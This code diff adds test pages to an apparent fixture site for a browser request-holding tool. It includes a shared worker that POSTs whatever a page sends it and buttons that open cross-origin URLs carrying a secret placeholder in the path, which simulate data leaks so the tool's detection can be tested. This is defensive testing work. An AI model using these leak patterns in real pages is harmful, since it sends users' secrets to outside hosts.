@@ -94,7 +94,11 @@ PAGES: dict[str, str] = {
 <button id="open-submit" onclick="window.open('about:blank', 'w2'); const f = document.getElementById('named');
   f.n.value = '5555 5555 5555 4444'; f.submit()">Continue</button>
 <a id="blank-get" href="/land?from=basket" target="_blank">Delivery times</a>
-<form method="post" action="/api/notes" target="_blank"><input name="note" value="hello"><button id="blank-plain">Keep</button></form>""",
+<form method="post" action="/api/notes" target="_blank"><input name="note" value="hello"><button id="blank-plain">Keep</button></form>
+<button id="open-early" onclick="window.open('/p/early-post')">Notes</button>""",
+    "early-post": """<title>Early</title><p>Saving</p>
+<script>fetch('/api/drafts/early', {method: 'POST', body: 'note=hello'})
+  .then((r) => { document.title = 'early sent ' + r.status; }, () => { document.title = 'early failed'; });</script>""",
     "socket": """<title>Chat</title><h1>Chat</h1>
 <script>const ws = new WebSocket('ws://' + location.host + '/ws'); ws.onopen = () => { document.title = 'Chat open'; };</script>
 <button id="ws-card" onclick="ws.send(JSON.stringify({note: '4111 1111 1111 1111'}))">Next</button>
@@ -117,6 +121,11 @@ window.loaded = Promise.all(Array.from({length: 40}, (_, i) => fetch('/api/items
 for (let i = 0; i < 40; i++) { const img = new Image(); img.src = '/img/' + i + '.gif?v=' + i; document.body.append(img); }
 for (let i = 0; i < 4; i++) { const f = document.createElement('iframe'); f.src = '/p/frame-inner?' + i; document.body.append(f); }
 </script>""",
+    "shared": _SCRIPT + """<title>Shared</title><h1>Shared</h1>
+<script>const sw = new SharedWorker('/shared-worker.js'); sw.port.onmessage = (m) => out(m.data); sw.port.start();</script>
+<button id="shared-card" onclick="sw.port.postMessage({url: location.origin + '/api/notes', body: 'n=4111 1111 1111 1111'});
+  out('asked')">Keep</button>
+<p>Status: <span id="status">idle</span></p>""",
     "eager-frame": """<title>Eager</title><p>frame</p>
 <script>fetch(location.origin + '/api/transfer', {method: 'POST', body: 'amount=7'});</script>""",
     "frame-inner": """<title>Inner</title><p>frame</p>
@@ -129,12 +138,18 @@ for (let i = 0; i < 4; i++) { const f = document.createElement('iframe'); f.src 
 <a id="plain" href="/redirect?to=CROSS/land%3Fref%3Dwelcome">Other page</a>
 <button id="find-later" onclick="setTimeout(() => document.forms[0].submit(), LATER_MS)">Look up</button>
 <button id="go-later" onclick="setTimeout(() => {{ location.href = 'CROSS/land?ref={SECRET}'; }}, LATER_MS)">Continue</button>
-<button id="open-leak" onclick="window.open('CROSS/land?ref={SECRET}')">Details</button>""",
+<button id="open-leak" onclick="window.open('CROSS/land?ref={SECRET}')">Details</button>
+<button id="open-path-leak" onclick="window.open('CROSS/u/{SECRET}')">Profile</button>
+<button id="open-path-digits" onclick="window.open('CROSS/guides/2024/delivery')">Guide</button>
+<button id="open-path-words" onclick="window.open('CROSS/help/delivery-times')">Help</button>""",
 }
 WORKER_JS = "onmessage = (e) => fetch(e.data, {method: 'POST', body: 'amount=9'});"
 SW_JS = ("self.addEventListener('activate', (e) => e.waitUntil(clients.claim()));"
          "self.addEventListener('message', (e) => e.waitUntil(fetch(e.data, {method: 'POST', body: 'amount=4'})));")
 """A service worker that POSTs where the page tells it (a page posting through its worker, as background sync does)."""
+SHARED_WORKER_JS = ("onconnect = (e) => { const port = e.ports[0]; port.onmessage = (m) => fetch(m.data.url, {method: 'POST', "
+                    "body: m.data.body}).then((r) => port.postMessage('sent ' + r.status), () => port.postMessage('failed')); };")
+"""A shared worker that POSTs what a page tells it (network-hold.js: shared workers are out of the hold's reach)."""
 READY_WORKER_JS = "postMessage('ready');"
 EAGER_WORKER_JS = "fetch(location.origin + '/api/transfer', {method: 'POST', body: 'amount=8'});"
 """A worker that sends as soon as it starts: held only if Fetch is on in it before its first line runs."""
@@ -195,6 +210,8 @@ class NetworkSite:
             self._reply(handler, 200, "text/javascript", WORKER_JS)
         elif parts.path == "/sw.js":
             self._reply(handler, 200, "text/javascript", SW_JS)
+        elif parts.path == "/shared-worker.js":
+            self._reply(handler, 200, "text/javascript", SHARED_WORKER_JS)
         elif parts.path == "/ready-worker.js":
             self._reply(handler, 200, "text/javascript", READY_WORKER_JS)
         elif parts.path == "/eager-worker.js":
